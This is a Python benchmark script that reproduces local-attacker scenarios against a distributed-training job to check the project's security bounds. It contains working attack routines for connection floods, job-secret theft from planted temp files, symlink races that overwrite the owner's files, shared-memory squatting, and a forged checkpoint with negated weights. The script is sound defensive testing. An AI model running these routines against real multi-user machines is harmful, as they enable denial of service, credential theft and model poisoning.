"""Another local user against a running job, at full size: the reproductions of SECURITY.md's
bounds that are too heavy for the test suite (tens of thousands of connections, RSS).

    sudo .venv/bin/python bench/security.py takeover
    sudo .venv/bin/python bench/security.py flood --connections 1100 --fd-limit 1024
    sudo .venv/bin/python bench/security.py flood --connections 20000 --fd-limit 1024
    sudo .venv/bin/python bench/security.py prefixes --connections 3000
    sudo .venv/bin/python bench/security.py squat
    sudo .venv/bin/python bench/security.py jobfile
    sudo .venv/bin/python bench/security.py status
    sudo .venv/bin/python bench/security.py trace
    sudo .venv/bin/python bench/security.py checkpoint-plant
    sudo .venv/bin/python bench/security.py checkpoint-race
    ... --repo /path/to/another/checkout       # the job runs that code (e.g. main, for "before")

Each starts a real job (``python -m runtime.launch -n 4``, the launcher's fresh secret) whose
ranks run checked all_reduces in a loop (shared memory, and a file written every iteration, as
a checkpoint would), and an attacker: a process forked from this one that drops to uid nobody
(so it must run as root), as another user of the machine would be. It prints one line of
markdown per measurement, for bench/results/security.md:

* ``takeover`` (no launcher, no secret): a 2-rank job as srun, mpirun or a user by hand starts
  it (tests/security/impostor.py). The attacker binds the job's store port first and plays its
  rank 0 and store, without a secret; the job's rank 1 all_reduces ``--rounds`` (20) times. Does it
  return sums made with the attacker's data?
* ``flood``: N idle connections to the store's port and to rank 1's, held ``--hold-s`` seconds,
  with every process of the job limited to ``--fd-limit`` descriptors; then a tool asks every
  rank, and the job must end with exit 0. Reports the job's progress during the flood, the
  descriptors and RSS of the store's and rank 1's processes at the peak, and the exit code.
* ``prefixes``: N connections to each of those ports that send a frame prefix announcing a
  header (64 KiB, or ``--header-nbytes``) and nothing more: RSS of both processes before, at
  the peak and after.
* ``squat``: the attacker watches /dev/shm (inotify) and creates the names a segment's name
  would give away (every rank's control file, every data-slot size) while the job's data slots
  grow: does the job finish?
* ``jobfile``: no XDG_RUNTIME_DIR; the attacker makes ``<tmp>/ringweave-<uid>`` (0777) first and
  plants the launcher's temporary file name, then reads whatever appears: does it get the
  secret? Then a launcher is killed with SIGKILL: is its job file removed by the next one?
* ``status``: the ranks run shared-memory all_reduces back to back; how many handshakes a second
  does a rank's port complete, and does ``tools.status`` see every rank?
* ``trace``: the attacker makes the trace directory (0777) in a shared temporary directory before
  the job starts with ``RINGWEAVE_TRACE`` naming it, watches /proc for the ranks and plants links
  to a file of the job's owner under every name a rank would write (``trace-rank<R>.json`` and its
  temporary ``.tmp<pid>``); then ``tools.trace -o`` into another directory of the attacker's, with a
  link in the output's name. Is the owner's file overwritten?
* ``checkpoint-plant``: the trainer (``python -m runtime.launch -n 2 -m trainer``, 1 epoch) saves
  a checkpoint in a directory of its own; the attacker makes the checkpoint root in a shared
  directory (mode 1777) first and plants ``step-99999999`` there: that checkpoint with its
  weights negated and its CRCs fixed. The job then runs ``--checkpoint-dir <that root>
  --resume --epochs 2`` (one more epoch): does it load the forged checkpoint?
* ``checkpoint-race``: the attacker makes the root and swaps every ``.tmp-step-S`` that appears
  for a directory of links into a directory of the job owner's files; the trainer runs 2 epochs
  (a save after each) into that root: are the owner's files written through the links?

Not here: the small versions of each, which run in the suite (tests/security/).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import pwd
import re
import resource
import secrets
import select
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))  # tools/ and tests/ are not installed packages
PY = sys.executable

from tests.security import impostor as takeover_job  # noqa: E402 - after the path
from tests.security.stranger import Stranger  # noqa: E402
from tests.security.jobutil import LaunchedJob, iters, rank_addresses  # noqa: E402 - after the path
from tests.security.netutil import squat_shm_names  # noqa: E402
from tests.security.ckptutil import race_tmp_steps  # noqa: E402
from runtime import args as types  # noqa: E402



# -- the job -----------------------------------------------------------------------------------

class Job(LaunchedJob):
    """A 4-rank job (tests/security/jobutil.py) in a temporary directory of its own, run with the
    code of ``repo``; synchronous waits."""

    def __init__(self, repo: Path, mode: str, fd_limit: int | None = None, env: dict | None = None,
                 job_id: str | None = None):
        def limit():
            if fd_limit:
                _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
                resource.setrlimit(resource.RLIMIT_NOFILE, (fd_limit, hard))

        super().__init__(Path(tempfile.mkdtemp(prefix="rw-sec-")), 4, mode=mode, repo=repo, env=env,
                         job_id=job_id, max_time_s=900, preexec_fn=limit)
        self.proc = self.launcher

    def iters(self) -> dict[int, int]:
        return iters(self.out)

    def pid(self, rank: int) -> int:
        return int((self.out / f"pid.{rank}").read_text())

    def wait_running(self, timeout_s: float = 60, iterations: int = 0) -> None:
        """Until every rank has started (and done ``iterations``: warm, its buffers allocated)."""
        deadline = time.monotonic() + timeout_s
        while not all((self.out / f"pid.{r}").exists() for r in range(4)) or \
                (iterations and min(self.iters().values(), default=0) < iterations):
            if time.monotonic() > deadline or self.proc.poll() is not None:
                raise RuntimeError(f"the job did not start:\n{self.text()[-2000:]}")
            time.sleep(0.05)
        time.sleep(0.5)

    def stop(self, timeout_s: float = 60) -> int:
        return self.stop_now(timeout_s)[0]

    def cleanup(self) -> None:
        shutil.rmtree(self.dir, ignore_errors=True)


def job_info(job: str) -> dict:
    from runtime import jobfile
    return jobfile.find(job)


def rss(pid: int) -> int:
    """VmRSS of ``pid`` in bytes; 0 once it has exited."""
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


def fds(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


# -- the attacker: a forked child as uid nobody --------------------------------------------------

def as_nobody(fn, *args, fd_limit: int | None = None) -> tuple[int, int]:
    """Forks a child that (optionally raises its descriptor limit, then) drops to uid nobody and
    runs ``fn(*args)``; returns (pid, read end of a pipe that gets its JSON result)."""
    nobody = pwd.getpwnam("nobody")
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            if fd_limit:
                resource.setrlimit(resource.RLIMIT_NOFILE, (fd_limit, fd_limit))
            os.setgroups([])
            os.setgid(nobody.pw_gid)
            os.setuid(nobody.pw_uid)
            out = {"ok": fn(*args)}
        except BaseException as exc:  # noqa: BLE001 - reported by the parent
            out = {"error": f"{type(exc).__name__}: {exc}"}
        os.write(w, json.dumps(out).encode())
        os._exit(0)
    os.close(w)
    return pid, r


def result_of(pid: int, r: int) -> dict:
    chunks = []
    while chunk := os.read(r, 1 << 16):
        chunks.append(chunk)
    os.close(r)
    os.waitpid(pid, 0)
    return json.loads(b"".join(chunks) or b'{"error": "no result"}')


PER_ATTACKER = 6000  # connections per target per attacking process: the descriptor limit's hard cap binds us too


def attack_connections(targets: list, n: int, hold_s: float, payload: bytes) -> tuple[list, callable]:
    """Starts enough attacking processes (uid nobody) for ``n`` connections to each target;
    returns their pipes (to select on) and a function that collects the summed result."""
    kids = []
    left = n
    while left > 0:
        share = min(PER_ATTACKER, left)
        left -= share
        kids.append(as_nobody(_connect_all, targets, share, hold_s, payload,
                              fd_limit=len(targets) * share + 500))

    def collect() -> dict:
        total: dict = {}
        for pid, r in kids:
            out = result_of(pid, r)
            for k, v in (out.get("ok") or {"errors": 1}).items():
                total[k] = round(total.get(k, 0) + v, 1) if k != "open_s" else max(total.get(k, 0), v)
        return total

    return [r for _, r in kids], collect


def _connect_all(targets: list, n: int, hold_s: float, payload: bytes) -> dict:
    """As the attacker: ``n`` connections to each target, each sending ``payload`` (may be empty),
    all held for ``hold_s`` seconds; counts what connected and what the server closed."""
    async def main():
        loop = asyncio.get_running_loop()
        socks, failed = [], 0
        gate = asyncio.Semaphore(256)

        async def one(host, port):
            nonlocal failed
            async with gate:
                s = socket.socket()
                s.setblocking(False)
                try:
                    async with asyncio.timeout(2):  # a full backlog drops SYNs: do not wait long for it
                        await loop.sock_connect(s, (host, port))
                    if payload:
                        await loop.sock_sendall(s, payload)
                    socks.append(s)
                except (OSError, TimeoutError):
                    failed += 1
                    s.close()

        t0 = time.monotonic()
        await asyncio.gather(*(one(h, p) for h, p in targets for _ in range(n)))
        opened_s = time.monotonic() - t0
        await asyncio.sleep(hold_s)
        closed = 0
        for s in socks:
            try:
                while s.recv(65536, socket.MSG_DONTWAIT):  # the server's hello, if it sent one
                    pass
                closed += 1  # b"": the server closed it
            except BlockingIOError:
                pass  # still open
            except OSError:
                closed += 1  # reset
            s.close()
        return {"connected": len(socks), "failed": failed, "closed_by_server": closed, "open_s": round(opened_s, 1)}

    return asyncio.run(main())


def _steal(d: str, job: str, secret_hint_s: float) -> dict:
    """As the attacker: make the job files' directory first, plant the launcher's temporary name,
    then read whatever appears there for ``secret_hint_s`` seconds."""
    os.makedirs(d, exist_ok=True)
    os.chmod(d, 0o777)
    for name in (f"{job}.json.tmp", f"{job}.json"):
        fd = os.open(os.path.join(d, name), os.O_CREAT | os.O_WRONLY, 0o666)
        os.fchmod(fd, 0o666)
        os.close(fd)
    found, deadline = None, time.monotonic() + secret_hint_s
    while time.monotonic() < deadline and found is None:
        for name in os.listdir(d):
            try:
                text = open(os.path.join(d, name)).read()
            except OSError:
                continue
            m = re.search(r'"secret": "([0-9a-f]{64})"', text)
            if m:
                found = m.group(1)
        time.sleep(0.05)
    return {"secret": found}


# -- the measurements ----------------------------------------------------------------------------

def _ports_to_attack(job: Job) -> tuple[dict, dict, list, dict]:
    """Once the job is warm: its file, its ranks' addresses, the ports attacked (the store's and
    rank 1's) and the pids watched (the launcher's, which hosts the store, and rank 1's)."""
    job.wait_running(iterations=50)
    info = job_info(job.id)
    ranks = asyncio.run(rank_addresses(info))
    return info, ranks, [(info["master_addr"], info["master_port"]), ranks[1]], \
        {"launcher": job.proc.pid, "rank 1": job.pid(1)}


def flood(args) -> None:
    job = Job(args.repo, "steady", fd_limit=args.fd_limit)
    try:
        info, ranks, targets, watch = _ports_to_attack(job)
        before = job.iters()
        rss0 = {w: rss(p) for w, p in watch.items()}
        peak_fd = {w: fds(p) for w, p in watch.items()}
        peak_rss = dict(rss0)
        pipes, collect = attack_connections(targets, args.connections, args.hold_s, b"")
        while len(select.select(pipes, [], [], 0.2)[0]) < len(pipes):
            for w, p in watch.items():
                peak_fd[w] = max(peak_fd[w], fds(p))
                peak_rss[w] = max(peak_rss[w], rss(p))
        attack = collect()
        during = job.iters()
        answered = asyncio.run(_ping_all(info, ranks)) if job.proc.poll() is None else 0
        code = job.stop()
        print(f"| flood {args.connections} x 2 ports, fd limit {args.fd_limit} | {args.repo.name} | "
              f"{attack} | iterations {sum(before.values())} -> {sum(during.values())} | "
              f"fds peak launcher {peak_fd['launcher']}, rank 1 {peak_fd['rank 1']} | "
              f"RSS +{(peak_rss['launcher'] - rss0['launcher']) / 2**20:.1f} / "
              f"+{(peak_rss['rank 1'] - rss0['rank 1']) / 2**20:.1f} MiB | ranks answering a tool {answered}/4 | "
              f"exit {code} |")
        if code != 0:
            print("   " + "\n   ".join(job.text().splitlines()[-8:]))
    finally:
        job.cleanup()


async def _ping_all(info: dict, ranks: dict) -> int:
    from tools.status import ask
    ok = 0
    for r, (host, port) in ranks.items():
        try:
            ok += await ask(host, port, info["secret"].encode(), info["job"], "ringweave.ping", timeout_s=5) == r
        except Exception:  # noqa: BLE001 - counted as not answering
            pass
    return ok


def prefixes(args) -> None:
    job = Job(args.repo, "steady")
    try:
        info, ranks, targets, watch = _ports_to_attack(job)
        time.sleep(1)
        rss0 = {w: rss(p) for w, p in watch.items()}
        peak = dict(rss0)
        prefix = struct.pack("<3sBIQ", b"RWV", 1, args.header_nbytes, 0)  # a header announced, never sent
        pipes, collect = attack_connections(targets, args.connections, args.hold_s, prefix)
        while len(select.select(pipes, [], [], 0.1)[0]) < len(pipes):
            for w, p in watch.items():
                peak[w] = max(peak[w], rss(p))
        attack = collect()
        time.sleep(2)
        after = {w: rss(p) for w, p in watch.items()}
        code = job.stop()
        row = "; ".join(f"{w} {rss0[w] / 2**20:.1f} -> peak {peak[w] / 2**20:.1f} -> {after[w] / 2**20:.1f} MiB "
                        f"(+{(peak[w] - rss0[w]) / 2**20:.1f})" for w in watch)
        print(f"| prefixes ({args.header_nbytes} B header) {args.connections} x 2 ports | {args.repo.name} | "
              f"{attack} | {row} | "
              f"exit {code} |")
    finally:
        job.cleanup()


def takeover(args) -> None:
    honest = 1.0 + 2.0  # ranks 0 and 1 contribute 1 and 2
    takeover_job.warm_up()
    for kind in ("srun", "mpirun", "hand"):
        number = takeover_job.free_job_number(4242 + 17 * len(kind))
        port, job, _ = takeover_job.launcher_env(kind, number, 0)
        work = Path(tempfile.mkdtemp(prefix="rw-takeover-"))
        try:
            with Stranger(takeover_job.impostor, port, job, args.rounds, None) as attacker:
                takeover_job.wait_listening(attacker.pid, port)
                rank0, rank1 = takeover_job.run_job(kind, number, work, args.repo, rounds=args.rounds)
                got = attacker.stop()
        finally:
            shutil.rmtree(work, ignore_errors=True)
        if "sums" in rank1:
            wrong = sum(1 for x in rank1["sums"] if x != honest)
            outcome = f"joined the attacker: {wrong}/{len(rank1['sums'])} sums wrong ({rank1['sums'][0]:g}, not {honest:g})"
        else:
            outcome = f"refused: {rank1['error']}: {rank1['message'][:160]}"
        print(f"| takeover, {kind} env, no secret | {args.repo.name} | rank 0: {rank0.get('error', 'ran')} | "
              f"rank 1: {outcome} | attacker joined: {got['joined']}, {got['rounds']} all_reduces |")


def squat(args) -> None:
    job_id = f"squat-{secrets.token_hex(4)}"
    prefix = "ringweave-" + re.sub(r"[^A-Za-z0-9._]", "_", job_id)[:80] + "-"
    pid, r = as_nobody(squat_shm_names, prefix, 4, 16)
    while not os.path.exists(f"/dev/shm/{prefix}ready"):
        time.sleep(0.05)
    job = Job(args.repo, "grow", job_id=job_id)
    try:
        time.sleep(args.hold_s)
        code = job.stop(120)
        os.kill(pid, signal.SIGTERM)
        attack = result_of(pid, r)
        for n in os.listdir("/dev/shm"):
            if n.startswith(prefix):
                os.unlink(f"/dev/shm/{n}")
        err = [line for line in job.text().splitlines() if "FileExistsError" in line or "Error" in line][:1]
        print(f"| squat | {args.repo.name} | {attack.get('ok', attack)} | iterations {job.iters()} | exit {code} | "
              f"{err[0][:160] if err else ''} |")
    finally:
        job.cleanup()


def jobfile_attack(args) -> None:
    shared = Path(tempfile.mkdtemp(prefix="rw-shared-", dir="/tmp"))
    os.chmod(shared, 0o1777)
    env = dict(os.environ, TMPDIR=str(shared))
    env.pop("XDG_RUNTIME_DIR", None)
    job_id = f"job-{secrets.token_hex(6)}"
    d = str(shared / f"ringweave-{os.getuid()}")
    pid, r = as_nobody(_steal, d, job_id, args.hold_s + 5)
    time.sleep(0.5)
    job = Job(args.repo, "steady", env=env, job_id=job_id)
    try:
        time.sleep(args.hold_s)
        code = job.stop()
        stolen = result_of(pid, r)
        warned = [line for line in job.text().splitlines() if "job file" in line][:1]
        print(f"| jobfile theft | {args.repo.name} | secret read by uid nobody: "
              f"{'yes' if (stolen.get('ok') or {}).get('secret') else 'no'} | exit {code} | "
              f"{warned[0][:160] if warned else ''} |")
    finally:
        job.cleanup()
    # a launcher killed with SIGKILL: is its file removed by the next one?
    shutil.rmtree(d, ignore_errors=True)
    killed = Job(args.repo, "steady", env=env)
    try:
        killed.wait_running()
        path = Path(d) / f"{killed.id}.json"
        os.kill(killed.proc.pid, signal.SIGKILL)
        killed.proc.wait()
        time.sleep(1)
        left = path.exists()
        nxt = Job(args.repo, "steady", env=env)
        nxt.wait_running()
        nxt.stop()
        nxt.cleanup()
        print(f"| jobfile after SIGKILL | {args.repo.name} | left behind: {left}; after the next launcher: "
              f"{path.exists()} |")
    finally:
        killed._log.close()
        killed.cleanup()
        shutil.rmtree(shared, ignore_errors=True)


def status(args) -> None:
    job = Job(args.repo, "tight")
    try:
        job.wait_running()
        info = job_info(job.id)
        ranks = asyncio.run(rank_addresses(info))

        async def handshakes(host, port, secs):
            from runtime import auth, net
            n, t0 = 0, time.monotonic()
            while time.monotonic() - t0 < secs:
                sock = await net.connect(host, port, 5)
                try:
                    await auth.connect(sock, info["secret"].encode(), info["job"], {"tool": "bench"}, "rank")
                    n += 1
                except Exception:  # noqa: BLE001 - a handshake that failed is not counted
                    pass
                finally:
                    sock.close()
            return n / secs

        rate = asyncio.run(handshakes(*ranks[1], args.hold_s))
        t0 = time.monotonic()
        out = subprocess.run([PY, "-m", "tools.status", "--job", job.id, "--json", "--timeout-s", "2"],
                             cwd=str(args.repo), env=dict(os.environ, PYTHONPATH=str(args.repo)),
                             capture_output=True, text=True, timeout=120)
        took = time.monotonic() - t0
        statuses = json.loads(out.stdout or "[]")
        healthy = sum(1 for st in statuses if "error" not in st)
        code = job.stop()
        print(f"| status under a tight shm loop | {args.repo.name} | {rate:.1f} handshakes/s on rank 1 | "
              f"tools.status: {healthy}/4 ranks answered in {took:.2f} s | exit {code} |")
    finally:
        job.cleanup()


def _plant_trace_links(d: str, victim: str, secs: float) -> dict:
    """As the attacker: the trace directory, open to all; for ``secs`` seconds, every process whose
    command line is a bench job's ranks gets links to ``victim`` under the names a rank writes."""
    os.mkdir(d)
    os.chmod(d, 0o777)
    seen: set[str] = set()
    deadline = time.monotonic() + secs
    while time.monotonic() < deadline:
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or pid in seen:
                continue
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmdline = f.read()
            except OSError:
                continue
            if b"rw-sec-" not in cmdline or b"job.py" not in cmdline:
                continue
            seen.add(pid)
            for r in range(4):
                for name in (f"trace-rank{r}.json", f"trace-rank{r}.json.tmp{pid}"):
                    try:
                        os.symlink(victim, os.path.join(d, name))
                    except FileExistsError:
                        pass
        time.sleep(0.02)
    return {"processes": len(seen), "links": len(os.listdir(d))}


def _plant_output_link(d: str, victim: str) -> None:
    os.mkdir(d)
    os.chmod(d, 0o777)
    os.symlink(victim, os.path.join(d, "job.json"))


PRECIOUS = "the job owner's file\n"


def trace_attack(args) -> None:
    shared = Path(tempfile.mkdtemp(prefix="rw-shared-", dir="/tmp"))
    os.chmod(shared, 0o1777)
    own = Path(tempfile.mkdtemp(prefix="rw-owner-"))  # 0700: the attacker may name its files, not read them
    victim = own / "precious.txt"
    victim.write_text(PRECIOUS)
    d = str(shared / "traces")
    pid, r = as_nobody(_plant_trace_links, d, str(victim), args.hold_s + 5)
    time.sleep(0.3)
    job = Job(args.repo, "steady", env=dict(os.environ, RINGWEAVE_TRACE=d))
    try:
        deadline = time.monotonic() + args.hold_s
        while time.monotonic() < deadline and job.proc.poll() is None:
            time.sleep(0.1)
        code = job.stop()
        planted = (result_of(pid, r).get("ok") or {})
        said = [line for line in job.text().splitlines() if "RINGWEAVE_TRACE" in line][:1]
        print(f"| trace directory made by uid nobody | {args.repo.name} | {planted.get('links', 0)} links for "
              f"{planted.get('processes', 0)} processes of the job | owner's file overwritten: "
              f"{'yes' if victim.read_text() != PRECIOUS else 'no'} | exit {code} | "
              f"{said[0].strip()[:200] if said else ''} |")
    finally:
        job.cleanup()
    victim.write_text(PRECIOUS)
    traces = own / "traces"
    traces.mkdir(mode=0o700)
    for rank in range(2):
        (traces / f"trace-rank{rank}.json").write_text(json.dumps(
            {"traceEvents": [{"name": "all_reduce", "ph": "X", "ts": 1.0, "dur": 2.0, "pid": rank, "tid": 0,
                              "args": {}}], "otherData": {"rank": rank, "dropped_events": 0}}))
    out = str(shared / "out")
    pid, r = as_nobody(_plant_output_link, out, str(victim))
    result_of(pid, r)
    proc = subprocess.run([PY, "-m", "tools.trace", str(traces), "-o", os.path.join(out, "job.json")],
                          cwd=str(args.repo), env=dict(os.environ, PYTHONPATH=str(args.repo)),
                          capture_output=True, text=True, timeout=60)
    said = (proc.stderr.strip().splitlines() or proc.stdout.strip().splitlines() or [""])[-1]
    print(f"| tools.trace -o into uid nobody's directory | {args.repo.name} | a link in the output's name | "
          f"owner's file overwritten: {'yes' if victim.read_text() != PRECIOUS else 'no'} | exit "
          f"{proc.returncode} | {said[:200]} |")
    shutil.rmtree(own, ignore_errors=True)
    subprocess.run(["rm", "-rf", str(shared)], check=False)
# -- checkpoints ------------------------------------------------------------------------------------

def _trainer(repo: Path, *args: str, timeout_s: float = 300) -> subprocess.CompletedProcess:
    """``python -m runtime.launch -n 2 -m trainer --strategy zero3 ...`` with the code of ``repo``."""
    return subprocess.run([PY, "-m", "runtime.launch", "-n", "2", "-m", "trainer", "--strategy", "zero3",
                           "--log-every", "0", *args], cwd=str(repo), env=dict(os.environ, PYTHONPATH=str(repo)),
                          capture_output=True, text=True, timeout=timeout_s)


def _said(out: subprocess.CompletedProcess, *needles: str) -> str:
    """The first line of the job's output holding one of ``needles`` (its rank prefix dropped)."""
    for line in (out.stdout + out.stderr).splitlines():
        if any(n in line for n in needles):
            return re.sub(r"^\[rank \d+\] ", "", line.strip())[:200]
    return ""


def _error(out: subprocess.CompletedProcess) -> str:
    """Rank 0's last exception or refusal line (``...Error: message``, ``trainer: error: message``;
    another rank's if it has none), shortened."""
    found = [(m.group(1), m.group(2)) for line in (out.stdout + out.stderr).splitlines()
             if (m := re.match(r"^(?:\[rank (\d+)\] )?((?:[\w.]+\.)?\w*Error: .*|[\w.]+: error: .*)", line.strip()))]
    ours = [text for rank, text in found if rank == "0"] or [text for _, text in found]
    return ours[-1][:300] if ours else ""


def _forge(ckpt: Path, stage: Path) -> None:
    """``stage``: a copy of checkpoint ``ckpt`` as step 99999999, parameters negated, CRCs fixed,
    readable by everyone (so that the attacker can copy it)."""
    import zlib

    import numpy as np

    shutil.copytree(ckpt, stage)
    meta = json.loads((stage / "metadata.json").read_text())
    meta["step"] = 99999999
    if (meta.get("extra") or {}).get("loop"):
        meta["extra"]["loop"]["step"] = 99999999
    for name, entry in meta["arrays"].items():
        for piece in entry["pieces"]:
            if name.endswith(".param"):
                a = -np.load(stage / piece["file"])
                np.save(stage / piece["file"], a)
                piece["crc32"] = zlib.crc32(np.ascontiguousarray(a).view(np.uint8)) & 0xFFFFFFFF
    (stage / "metadata.json").write_text(json.dumps(meta))
    for p in [stage, *stage.rglob("*")]:
        os.chmod(p, 0o755 if p.is_dir() else 0o644)


def _plant_checkpoint(root: str, stage: str) -> list:
    """As the attacker: the checkpoint root (0777), with the forged checkpoint in it."""
    os.mkdir(root)
    os.chmod(root, 0o777)
    shutil.copytree(stage, os.path.join(root, "step-99999999"))
    return sorted(os.listdir(root))


def checkpoint_plant(args) -> None:
    work = Path(tempfile.mkdtemp(prefix="rw-ckpt-", dir="/tmp"))
    os.chmod(work, 0o1777)
    try:
        own = _trainer(args.repo, "--epochs", "1", "--checkpoint-dir", str(work / "own"))
        [ckpt] = sorted((work / "own").glob("step-*"))
        _forge(ckpt, work / "stage")
        pid, r = as_nobody(_plant_checkpoint, str(work / "shared-ckpt"), str(work / "stage"))
        planted = result_of(pid, r)
        out = _trainer(args.repo, "--epochs", "2", "--checkpoint-dir", str(work / "shared-ckpt"), "--resume")
        loaded = _said(out, "resumed from")
        print(f"| planted step-99999999 | {args.repo.name} | own run: validation "
              f"{_said(own, 'validation accuracy').split('accuracy')[-1].split()[0]} | planted: "
              f"{planted.get('ok', planted)} | {'loaded: ' + loaded if loaded else 'not loaded'} | "
              f"{_error(out) or _said(out, 'validation accuracy')} | exit {out.returncode} |")
    finally:
        shutil.rmtree(work, ignore_errors=True)


def _race_tmp(root: str, victim: str, stop: str, limit_s: float) -> dict:
    """As the attacker: the .tmp-step-S racer (tests/security/ckptutil.py) until ``stop`` exists
    (or ``limit_s`` passed)."""
    deadline, made = time.monotonic() + limit_s, {"swaps": 0}
    race_tmp_steps(root, victim, "notes.txt", lambda: not os.path.exists(stop) and time.monotonic() < deadline,
                   made)
    return made


def checkpoint_race(args) -> None:
    work = Path(tempfile.mkdtemp(prefix="rw-ckpt-", dir="/tmp"))
    os.chmod(work, 0o1777)
    victim = work / "owner-files"
    victim.mkdir(mode=0o755)
    for name in ("notes.txt", "index.json", "unit0.param.npy"):
        (victim / name).write_text("the owner's own file\n")
    before = {p.name: p.read_bytes() for p in victim.iterdir()}
    try:
        stop = work / "stop"
        pid, r = as_nobody(_race_tmp, str(work / "shared-ckpt"), str(victim), str(stop), 600.0)
        while not (work / "shared-ckpt").exists():
            time.sleep(0.01)
        out = _trainer(args.repo, "--epochs", "2", "--checkpoint-dir", str(work / "shared-ckpt"))
        stop.touch()
        raced = result_of(pid, r)
        after = {p.name: p.read_bytes() for p in victim.iterdir()}
        changed = sorted(n for n in after if after[n] != before.get(n))
        print(f"| .tmp-step-S racer | {args.repo.name} | {raced.get('ok', raced)} | owner's files written through "
              f"links: {len(changed)} ({', '.join(changed[:4])}{' ...' if len(changed) > 4 else ''}) | "
              f"{_error(out) or _said(out, 'validation accuracy')} | "
              f"exit {out.returncode} |")
    finally:
        shutil.rmtree(work, ignore_errors=True)


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("what", choices=["flood", "prefixes", "squat", "jobfile", "status", "trace", "takeover",
                                    "checkpoint-plant", "checkpoint-race"])
    p.add_argument("--connections", type=types.count, default=1100, help="per attacked port (flood, prefixes)")
    p.add_argument("--fd-limit", type=types.positive_int, default=1024,
                   help="RLIMIT_NOFILE of every process of the job (flood)")
    p.add_argument("--hold-s", type=types.positive_seconds, default=5.0, help="how long the attack lasts")
    p.add_argument("--header-nbytes", type=types.count, default=65536,
                   help="the header length each prefix announces (prefixes; 1..1024 passes the handshake's check)")
    p.add_argument("--rounds", type=types.positive_int, default=20, help="all_reduces the job's rank 1 runs (takeover)")
    p.add_argument("--repo", type=Path, default=REPO, help="the checkout whose code the job runs")
    args = p.parse_args(argv)
    if os.geteuid() != 0:
        p.error("run as root: the attacker is a child that drops to uid nobody")
    args.repo = args.repo.resolve()
    {"flood": flood, "prefixes": prefixes, "squat": squat, "jobfile": jobfile_attack, "status": status,
     "trace": trace_attack, "takeover": takeover, "checkpoint-plant": checkpoint_plant,
     "checkpoint-race": checkpoint_race}[args.what](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
